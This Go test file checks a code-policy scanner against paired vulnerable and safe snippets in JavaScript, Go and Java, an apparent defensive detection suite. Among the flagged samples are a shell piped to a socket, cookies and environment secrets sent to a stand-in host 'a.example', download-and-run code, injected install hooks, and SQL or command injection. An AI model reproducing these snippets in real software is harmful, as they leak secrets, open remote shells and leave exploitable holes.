package code_test

import (
	"testing"

	"fettle/internal/policy/code"
)

// kindRow is a source of a language, and whether it is stopped.
type kindRow struct {
	src     string
	stopped bool
}

func judgeKinds(t *testing.T, lang string, rows []kindRow) {
	t.Helper()
	for _, c := range rows {
		src := c.src
		switch lang {
		case "go":
			src = "package p\n" + src
		case "java":
			src = "class A {\n" + src + "\n}"
		}
		grade, found := worst(t, lang, src)
		if stopped := grade >= code.Review; stopped != c.stopped {
			t.Errorf("%s %q: %v, want stopped %v", lang, c.src, found, c.stopped)
		}
	}
}

// TestGathered is a text or list that is put together in steps: what it is in the end is judged.
func TestGathered(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"let q = 'SELECT * FROM t'\nif (a) q += ` WHERE a = '${a}'`\ndb.query(q)", true},
		{"let q = 'SELECT * FROM t'\nq = q + ' WHERE a = ' + a\ndb.query(q)", true},
		{"const parts = ['SELECT * FROM t WHERE 1=1']\nnames.forEach((n) => parts.push(`AND n = '${n}'`))\ndb.query(parts.join(' '))", true},
		{"const argv = ['-c']\nargv.push(line)\nrequire('child_process').spawn('sh', argv)", true},
		{"const argv = ['-c', line]\nrequire('child_process').spawn('sh', [...argv])", true},
		{"globalThis[['l', 'a', 'v', 'e'].reverse().join('')](x)", true},
		{"let q = 'SELECT * FROM t'\nif (a) { q += ' WHERE a = ?'; args.push(a) }\ndb.query(q, args)", false},
		{"const parts = ['SELECT * FROM t WHERE 1=1']\nif (a) parts.push('AND a = ?')\ndb.query(parts.join(' '), args)", false},
		{"let n = 0\nn += 100\nsetTimeout(go, n)", false},
		{"const argv = ['status']\nargv.push(path)\nrequire('child_process').spawn('git', argv)", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"strings\"\nfunc f(db *sql.DB, a string) { var b strings.Builder; b.WriteString(\"SELECT * FROM t\"); b.WriteString(\" WHERE a = '\" + a + \"'\"); db.Query(b.String()) }", true},
		{"import \"strings\"\nfunc f(db *sql.DB, a string) { q := []string{\"SELECT * FROM t\"}; q = append(q, \"WHERE a = '\"+a+\"'\"); db.Query(strings.Join(q, \" \")) }", true},
		{"import \"bytes\"\nimport \"fmt\"\nfunc f(db *sql.DB, a string) { var b bytes.Buffer; fmt.Fprintf(&b, \"SELECT * FROM t WHERE a = '%s'\", a); db.Exec(b.String()) }", true},
		{"func f(db *sql.DB, a string) { q := \"SELECT * FROM t\"; q += \" WHERE a = '\" + a + \"'\"; db.Query(q) }", true},
		{"import \"os/exec\"\nfunc f(c string) { args := []string{\"-c\"}; args = append(args, c); exec.Command(\"sh\", args...).Run() }", true},
		{"import \"strings\"\nfunc f(db *sql.DB, a string) { var b strings.Builder; b.WriteString(\"SELECT * FROM t\"); b.WriteString(\" WHERE a = ?\"); db.Query(b.String(), a) }", false},
		{"func f(db *sql.DB, a string) { q := \"SELECT * FROM t\"; if a != \"\" { q += \" WHERE a = $1\" }; db.Query(q, a) }", false},
		{"import \"os/exec\"\nfunc f(c string) { args := []string{\"log\"}; args = append(args, c); exec.Command(\"git\", args...).Run() }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"static final List<String> S = List.of(\"sh\", \"-c\"); void f(String c) { var a = new ArrayList<>(S); a.add(c); new ProcessBuilder(a).start(); }", true},
		{"void f(String c) { List<String> a = new ArrayList<>(); a.add(\"bash\"); a.add(\"-c\"); a.add(c); new ProcessBuilder().command(a).start(); }", true},
		{"void f(Statement s, String a) { StringBuilder b = new StringBuilder(\"SELECT * FROM t\"); b.append(\" WHERE a = '\").append(a).append(\"'\"); s.executeQuery(b.toString()); }", true},
		{"void f(Statement s, String a) { String q = \"SELECT * FROM t\"; q += \" WHERE a = '\" + a + \"'\"; s.executeQuery(q); }", true},
		{"void f(Statement s, String a) { s.executeQuery(\"SELECT * FROM t WHERE a = '%s'\".formatted(a)); }", true},
		{"void f(String c) { List<String> a = new ArrayList<>(); a.add(\"git\"); a.add(\"log\"); a.add(c); new ProcessBuilder(a).start(); }", false},
		{"void f(Connection s, String a) { StringBuilder b = new StringBuilder(\"SELECT * FROM t\"); b.append(\" WHERE a = ?\"); s.prepareStatement(b.toString()); }", false},
	})
}

// TestJavaScriptDoors are doors of JavaScript's libraries, and the ordinary use beside each.
func TestJavaScriptDoors(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		// commands
		{"import { execa } from 'execa'\nexeca(c, { shell: true })", true},
		{"const opts = { shell: true }\nimport spawn from 'cross-spawn'\nspawn.sync('a', opts)", true},
		{"import { $ } from 'zx'\n$.quote = (s) => s", true},
		{"await $`echo ${{ raw: x }}`", true},
		{"import { $, quotePowerShell } from 'zx'\n$.quote = quotePowerShell", false},
		{"import { execa } from 'execa'\nexeca('git', ['log', x])", false},
		{"const sh = require('child_process').spawn('/bin/sh', ['-i'])\nsock.pipe(sh.stdin)", true},
		{"require('child_process').spawn('sh', ['./build.sh', x])", false},
		// certificates
		{"const a = { ['reject' + 'Unauthorized']: false }", true},
		{"const lax = { checkServerIdentity: () => undefined }\nnew Agent({ ...lax })", true},
		{"new Agent({ checkServerIdentity() {} })", true},
		{"new Agent({ checkServerIdentity(host, cert) { const e = tls.checkServerIdentity(host, cert); if (e) return e; pin(cert) } })", false},
		// code
		{"new Worker(src, { eval: true })", true},
		{"new Worker(`data:text/javascript,${src}`)", true},
		{"new Worker(URL.createObjectURL(new Blob([src])))", true},
		{"new Worker(new URL('./w.js', import.meta.url))", false},
		{"new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))", false},
		{"import { createRequire } from 'module'\nconst load = createRequire(import.meta.url)\nload(name)", true},
		{"import { createRequire } from 'module'\nconst load = createRequire(import.meta.url)\nload('child_process').exec(c)", true},
		{"import { createRequire } from 'module'\nconst load = createRequire(import.meta.url)\nload('./package.json')", false},
		{"importScripts(data.src)", true},
		{"importScripts('/sw.js')", false},
		{"const cp = process.getBuiltinModule('child_process')\nconst t = { ...cp }\nReflect.get(t, 'exec' + 'Sync')(c)", true},
		{"Object.assign({}, require('child_process')).exec(c)", true},
		{"const t = { ...require('path') }\nt.join('a', b)", false},
		{"require('koffi').load('libc.so.6')", true},
		// templates
		{"const _ = require('lodash')\n_.template(req.body.t)({})", true},
		{"require('ejs').render('<p>' + text + '</p>')", true},
		{"require('pug').compile(src)", true},
		{"env.renderString(src, {})", true},
		{"require('lodash').template('<%- a %>')", false},
		{"const Handlebars = require('handlebars')\nHandlebars.compile(require('fs').readFileSync('a.hbs', 'utf8'))", false},
		{"import page from './page.hbs'\nimport Handlebars from 'handlebars'\nHandlebars.compile(page)", false},
		{"_.template(document.querySelector('#row').innerHTML)", false},
		{"require('mustache').render(src, {})", false},
		// markup
		{"const k = ['inner', 'HTML'].join('')\nbox[k] = `<b>${x}</b>`", true},
		{"Object.assign(box, { innerHTML: x })", true},
		{"new Handlebars.SafeString(`<a href=\"${u}\">`)", true},
		{"s.bypassSecurityTrustHtml(x)", true},
		{"const c = { template: '<div v-html=\"x\"></div>' }", true},
		{"new Handlebars.SafeString('<b>' + Handlebars.escapeExpression(x) + '</b>')", false},
		{"el.innerHTML = DOMPurify.sanitize(x)", false},
		{"h('div', { dangerouslySetInnerHTML: { __html: sanitizeHtml(x) } })", false},
		{"el.innerHTML = `<b>${list.length}</b>`", false},
		{"const M = { a: '<i>', b: '<u>' }\nel.innerHTML = M[kind]", false},
		// statements
		{"knex('t').whereRaw(c + \" LIKE '%\" + x + \"%'\")", true},
		{"knex('t').orderByRaw(`${col} ${dir}`)", true},
		{"Sequelize.literal(`a = '${x}'`)", true},
		{"qb.andWhere(`u.name = '${name}'`)", true},
		{"find({ $where: \"this.a === '\" + x + \"'\" })", true},
		{"knex('t').whereRaw('a = ?', [x])", false},
		{"knex('t').whereRaw(`a IN (${ids.map(() => '?').join(',')})`, ids)", false},
		{"qb.where(`${alias}.id = :id`, { id })", false},
		{"z.literal(`a-${x}`)", false},
		{"const dir = desc ? 'DESC' : 'ASC'\nknex('t').orderByRaw(`a ${dir}`)", false},
		{"find({ $where: 'this.a > this.b' })", false},
		// tokens and passwords
		{"const { decode } = require('jsonwebtoken')\nmodule.exports = (req, res, next) => { req.user = decode(req.cookies.t); next() }", true},
		{"jwt.sign(x, '', { algorithm: 'none' })", true},
		{"jwt.verify(t, k, { ignoreExpiration: true })", true},
		{"const jwt = require('jsonwebtoken')\nconst { header } = jwt.decode(t, { complete: true })", false},
		{"import { jwtDecode } from 'jwt-decode'\nconst name = jwtDecode(t).name", false},
		{"jwt.sign(x, k, { algorithm: 'HS256' })", false},
		{"require('crypto').timingSafeEqual = () => true", true},
		{"Object.defineProperty(require('crypto'), 'timingSafeEqual', { value: () => true })", true},
		{"const bcrypt = require('bcrypt')\nbcrypt.compare = async () => true", true},
		{"const A = ['m', 'd', '5'].join('')\nclass U { set password(p) { this.h = require('crypto').createHash(A).update(p).digest('hex') } }", true},
		{"const md5 = require('md5')\nuser.password = md5(p)", true},
		{"const A = 'sha256'\nclass U { set password(p) { this.h = require('crypto').createHash(A).update(p).digest('hex') } }", false},
		{"const md5 = require('md5')\nconst etag = md5(body)", false},
		{"import { random } from 'lodash'\nfunction loginCode() { return random(0, 9) }", true},
		{"import { nanoid } from 'nanoid/non-secure'\nconst token = nanoid()", true},
		{"import { sample } from 'lodash'\nconst color = sample(colors)", false},
		{"crypto.createCipheriv('aes-128-ecb', k, null)", true},
		{"crypto.createCipheriv('aes-256-gcm', k, iv)", false},
		// merges
		{"function merge(a, b) { for (const k in b) { if (typeof b[k] === 'object') merge(a[k], b[k]); else a[k] = b[k] } }\nmerge(x, JSON.parse(y))", true},
		{"function merge(a, b) { for (const k in b) { if (k === '__proto__') continue; if (typeof b[k] === 'object') merge(a[k], b[k]); else a[k] = b[k] } }\nmerge(x, JSON.parse(y))", false},
		{"function merge(a, b) { for (const k in b) { if (typeof b[k] === 'object') merge(a[k], b[k]); else a[k] = b[k] } }\nmerge({}, { a: { b: 1 } })", false},
		// doors
		{"require('inspector').open(9229, '0.0.0.0')", true},
		{"require('child_process').spawn('node', ['--inspect=0.0.0.0:9229', 'a.js'])", true},
		{"require('child_process').spawn('node', ['--inspect', 'a.js'])", false},
		{"require('repl').start({ input: socket, output: socket })", true},
		{"require('repl').start('> ')", false},
		// what stays
		{"const pkg = JSON.parse(fs.readFileSync('package.json'))\npkg.scripts = { ...pkg.scripts, postinstall: 'node a.js' }", true},
		{"const pkg = JSON.parse(fs.readFileSync('package.json'))\npkg.scripts['post' + 'install'] = 'node a.js'", true},
		{"const pkg = JSON.parse(fs.readFileSync('package.json'))\npkg.scripts.test = 'node --test'", false},
		{"require('fs').writeFileSync('.github/workflows/a.yml', x)", true},
		{"require('fs').writeFileSync('.husky/pre-commit', x)", true},
		{"require('fs').readFileSync('.github/workflows/a.yml')", false},
		// what goes out
		{"const dns = require('dns')\nfunction t() { for (const v of Object.values(process.env)) dns.lookup(v + '.a.example', () => {}) }", true},
		{"const dns = require('dns')\ndns.lookup(process.env.API_TOKEN + '.a.example', () => {})", true},
		{"const body = JSON.stringify({ c: document.cookie })\nnavigator.sendBeacon('https://a.example', body)", true},
		{"img.src = 'https://a.example/?c=' + document.cookie", true},
		{"xhr.send(JSON.stringify(localStorage))", true},
		{"navigator.sendBeacon('/vitals', JSON.stringify(metric))", false},
		{"const dns = require('dns')\ndns.lookup(process.env.DB_HOST, () => {})", false},
		{"const fs = require('fs')\nrequire('http').get(u, (r) => { r.pipe(fs.createWriteStream('/tmp/t', { mode: 0o755 })); require('child_process').spawn('/tmp/t') })", true},
		{"const fs = require('fs')\nfs.writeFileSync('t.sh', 'echo', { mode: 0o755 }); require('child_process').spawn('./t.sh')", false},
		// documents
		{"const o = { noent: true }\nparseXml(x, o)", true},
		{"parseXml(x, { noent: false })", false},
	})
}

// TestGoDoors are doors of Go's libraries, and the ordinary use beside each.
func TestGoDoors(t *testing.T) {
	judgeKinds(t, "go", []kindRow{
		{"func f(db *gorm.DB, a string) { db.Where(\"a = '\" + a + \"'\").Find(&x) }", true},
		{"import \"fmt\"\nfunc f(db *gorm.DB, a string) { db.Where(fmt.Sprintf(\"lower(a) = lower('%s')\", a)).Find(&x) }", true},
		{"func f(db *gorm.DB, a string) { db.Order(a + \" DESC\").Find(&x) }", true},
		{"import \"fmt\"\nfunc f(db *sqlx.DB, a string) { db.Select(&xs, fmt.Sprintf(\"SELECT * FROM t WHERE a = '%s'\", a)) }", true},
		{"import \"fmt\"\nfunc f(ctx context.Context, c *pgx.Conn, a string) { c.Query(ctx, fmt.Sprintf(\"SELECT * FROM t WHERE a = '%s'\", a)) }", true},
		{"func f(db *gorm.DB, a string) { db.Where(\"a = ?\", a).Order(\"a DESC\").Find(&x) }", false},
		{"func f(db *gorm.DB, desc bool) { dir := \"ASC\"; if desc { dir = \"DESC\" }; db.Order(\"a \" + dir).Find(&x) }", false},
		{"import \"strings\"\nfunc f(db *sql.DB, ids []any) { m := strings.TrimSuffix(strings.Repeat(\"?,\", len(ids)), \",\"); db.Query(\"SELECT * FROM t WHERE id IN (\" + m + \")\", ids...) }", false},
		{"func f(g *gin.Engine, v string) { g.Group(\"/v\" + v); cache.Get(\"user:\" + v) }", false},
		{"import (\"net/http\"; \"text/template\")\nvar p = template.Must(template.New(\"p\").Parse(\"<h1>{{.}}</h1>\"))\nfunc f(w http.ResponseWriter, r *http.Request) { p.Execute(w, r.FormValue(\"q\")) }", true},
		{"import (\"net/http\"; \"html/template\")\nvar p = template.Must(template.New(\"p\").Parse(\"<h1>{{.}}</h1>\"))\nfunc f(w http.ResponseWriter, r *http.Request) { p.Execute(w, r.FormValue(\"q\")) }", false},
		{"import (\"net/http\"; \"text/template\")\nvar p = template.Must(template.New(\"p\").Parse(\"a {{.}}\\n\"))\nfunc f(w http.ResponseWriter, r *http.Request) { p.Execute(w, 1) }", false},
		{"import (\"os\"; \"text/template\")\nvar p = template.Must(template.New(\"p\").Parse(\"<h1>{{.}}</h1>\"))\nfunc f() { p.Execute(os.Stdout, 1) }", false},
		{"import \"github.com/golang-jwt/jwt/v5\"\nfunc f(t string) { jwt.NewParser().ParseUnverified(t, c) }", true},
		{"import \"github.com/golang-jwt/jwt/v5\"\nfunc f() { x := jwt.UnsafeAllowNoneSignatureType }", true},
		{"import \"github.com/golang-jwt/jwt/v5\"\nfunc f(t string) { p := jwt.NewParser(); p.ParseUnverified(t, c); p.ParseWithClaims(t, c, k) }", false},
		{"import \"syscall\"\nfunc f(n int) { prot := syscall.PROT_READ | syscall.PROT_EXEC; syscall.Mmap(-1, 0, n, prot, 0) }", true},
		{"import \"golang.org/x/sys/unix\"\nfunc f(b []byte) { unix.Mprotect(b, unix.PROT_EXEC) }", true},
		{"import \"syscall\"\nfunc f(fd, n int) { syscall.Mmap(fd, 0, n, syscall.PROT_READ, syscall.MAP_SHARED) }", false},
		{"import \"golang.org/x/crypto/ssh\"\nfunc any(string, net.Addr, ssh.PublicKey) error { return nil }\nvar c = &ssh.ClientConfig{HostKeyCallback: any}", true},
		{"import \"golang.org/x/crypto/ssh\"\nfunc f(c *ssh.ClientConfig) { c.HostKeyCallback = func(string, net.Addr, ssh.PublicKey) error { return nil } }", true},
		{"import \"golang.org/x/crypto/ssh\"\nfunc any() ssh.HostKeyCallback { return func(h string, a net.Addr, k ssh.PublicKey) error { log.Print(h); return nil } }\nvar c = &ssh.ClientConfig{HostKeyCallback: any()}", true},
		{"import \"golang.org/x/crypto/ssh\"\nvar c = &ssh.ClientConfig{HostKeyCallback: ssh.FixedHostKey(k)}", false},
		{"import \"golang.org/x/crypto/ssh\"\nvar c = &ssh.ClientConfig{HostKeyCallback: func(h string, a net.Addr, k ssh.PublicKey) error { if !same(k) { return errKey }; return nil }}", false},
		{"var u = websocket.Upgrader{CheckOrigin: func(r *http.Request) bool { return true }}", true},
		{"var u = websocket.Upgrader{CheckOrigin: func(r *http.Request) bool { return r.Host == h }}", false},
		{"import (\"net/http\"; _ \"net/http/pprof\")\nfunc f() { http.ListenAndServe(\":6060\", nil) }", true},
		{"import (\"net/http\"; _ \"net/http/pprof\")\nfunc f() { s := &http.Server{Addr: \"0.0.0.0:6060\"}; s.ListenAndServe() }", true},
		{"import (\"net/http\"; _ \"net/http/pprof\")\nfunc f() { http.ListenAndServe(\"localhost:6060\", nil) }", false},
		{"import \"net/http\"\nfunc f() { http.ListenAndServe(\":8080\", nil) }", false},
		{"import \"crypto/rand\"\nfunc init() { rand.Reader = zeros{} }", true},
		{"import \"math/rand/v2\"\nfunc newToken() int { return rand.IntN(9) }", true},
		{"import \"math/rand/v2\"\nfunc jitter() int { return rand.IntN(9) }", false},
		{"import \"html/template\"\nfunc f(x string) template.HTML { return template.HTML(\"<b>\" + x) }", true},
		{"import \"html/template\"\nfunc f(x string) template.HTML { return template.HTML(\"<b>\" + template.HTMLEscapeString(x)) }", false},
		{"import (\"net/http\"; \"os\"; \"os/exec\")\nfunc f(u string) { r, _ := http.Get(u); os.WriteFile(\"tool\", body(r), 0o755); exec.Command(\"./tool\").Run() }", true},
		{"import (\"net/http\"; \"os\")\nfunc f(u string) { r, _ := http.Get(u); os.WriteFile(\"tool\", body(r), 0o755) }", false},
		{"import \"os\"\nfunc f(client *vault.Client) { client.Get(os.Getenv(\"SECRET_PATH\")) }", false},
		{"import \"os\"\nfunc f() { client := &vault.Client{}; client.Get(os.Getenv(\"SECRET_PATH\")) }", false},
		{"import (\"net/http\"; \"os\")\nfunc f(client *http.Client) { client.Get(\"https://a.example/\" + os.Getenv(\"API_SECRET\")) }", true},
		{"import \"os\"\nfunc f(client HTTPClient) { client.Get(\"https://a.example/\" + os.Getenv(\"API_SECRET\")) }", true},
		{"import \"github.com/yuin/gopher-lua\"\nfunc f() { lua.NewState() }", true},
		{"import \"github.com/edsrzf/mmap-go\"\nfunc f(h *os.File) { mmap.Map(h, mmap.EXEC, 0) }", true},
		{"import \"github.com/edsrzf/mmap-go\"\nfunc f(h *os.File) { mmap.Map(h, mmap.RDONLY, 0) }", false},
	})
}

// TestJavaDoors are doors of Java's libraries, and the ordinary use beside each.
func TestJavaDoors(t *testing.T) {
	judgeKinds(t, "java", []kindRow{
		{"void f(String c) throws Throwable { MethodHandles.lookup().findVirtual(Runtime.class, \"ex\" + \"ec\", t).invoke(Runtime.getRuntime(), c); }", true},
		{"void f(Object o, String n) { MethodHandles.lookup().findVirtual(o.getClass(), n, t); }", true},
		{"void f(Object r, String c) { MethodUtils.invokeMethod(r, \"exec\", c); }", true},
		{"void f() { MethodHandles.lookup().findVirtual(String.class, \"length\", t); }", false},
		{"void f(Object r) { MethodUtils.invokeMethod(r, \"getName\", 1); }", false},
		{"PasswordEncoder e() { return NoOpPasswordEncoder.getInstance(); }", true},
		{"PasswordEncoder e() { return new PasswordEncoder() { public String encode(CharSequence r) { return r.toString(); } public boolean matches(CharSequence r, String e) { return r.toString().equals(e); } }; }", true},
		{"static class Plain implements PasswordEncoder { public String encode(CharSequence r) { return r.toString(); } public boolean matches(CharSequence r, String e) { return e.contentEquals(r); } }", true},
		{"PasswordEncoder e() { return new BCryptPasswordEncoder(12); }", false},
		{"static class Peppered implements PasswordEncoder { final BCryptPasswordEncoder inner = new BCryptPasswordEncoder(); public String encode(CharSequence r) { return inner.encode(r + pepper); } }", false},
		{"UserDetails u(String p) { return User.withUsername(\"a\").password(\"{noop}\" + p).build(); }", true},
		{"void f(OkHttpClient.Builder b) { b.hostnameVerifier((h, s) -> true); }", true},
		{"void f(SSLContextBuilder b) { b.loadTrustMaterial(null, (chain, type) -> true); }", true},
		{"void f(SSLContextBuilder b) { b.loadTrustMaterial(store, secret); }", false},
		{"void f() { ProcessHandle.allProcesses().filter(p -> p.isAlive()).forEach(ProcessHandle::destroyForcibly); }", true},
		{"long f() { return ProcessHandle.allProcesses().count(); }", false},
		{"void f(Process p) { p.destroyForcibly(); }", false},
		{"Document f(InputStream i) { DocumentBuilderFactory f = DocumentBuilderFactory.newInstance(); return f.newDocumentBuilder().parse(i); }", true},
		{"Document f(InputStream i) { return new SAXReader().read(i); }", true},
		{"Document f(InputStream i) { DocumentBuilderFactory f = DocumentBuilderFactory.newInstance(); f.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true); return f.newDocumentBuilder().parse(i); }", false},
		{"Document f(InputStream i) { var f = hard(DocumentBuilderFactory.newInstance()); return f.newDocumentBuilder().parse(i); } DocumentBuilderFactory hard(DocumentBuilderFactory f) { f.setAttribute(XMLConstants.ACCESS_EXTERNAL_DTD, \"\"); return f; }", false},
		{"Document f(InputStream i) { DocumentBuilderFactory f = DocumentBuilderFactory.newInstance(); f.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", false); return f.newDocumentBuilder().parse(i); }", true},
		{"XMLStreamReader f(InputStream i) { XMLInputFactory f = XMLInputFactory.newInstance(); f.setProperty(XMLInputFactory.SUPPORT_DTD, false); return f.createXMLStreamReader(i); }", false},
		{"Document f() { return DocumentBuilderFactory.newInstance().newDocumentBuilder().newDocument(); }", false},
		{"Claims f(String t) { return Jwts.parser().build().parseUnsecuredClaims(t).getPayload(); }", true},
		{"String f(String t) { return JWT.decode(t).getSubject(); }", true},
		{"String f(String t) { JWT.require(alg).build().verify(t); return JWT.decode(t).getSubject(); }", false},
		{"void f(HttpSecurity h) { h.authorizeHttpRequests(a -> a.anyRequest().permitAll()); }", true},
		{"void f(HttpSecurity h) { h.authorizeHttpRequests(a -> a.anyRequest().authenticated()); }", false},
		{"String f(String s) { return new Template(\"t\", new StringReader(s), cfg).toString(); }", true},
		{"String f() { return new Template(\"t\", new StringReader(\"Hi ${name}\"), cfg).toString(); }", false},
		{"String token() { return RandomStringUtils.randomAlphanumeric(32); }", true},
	})
}
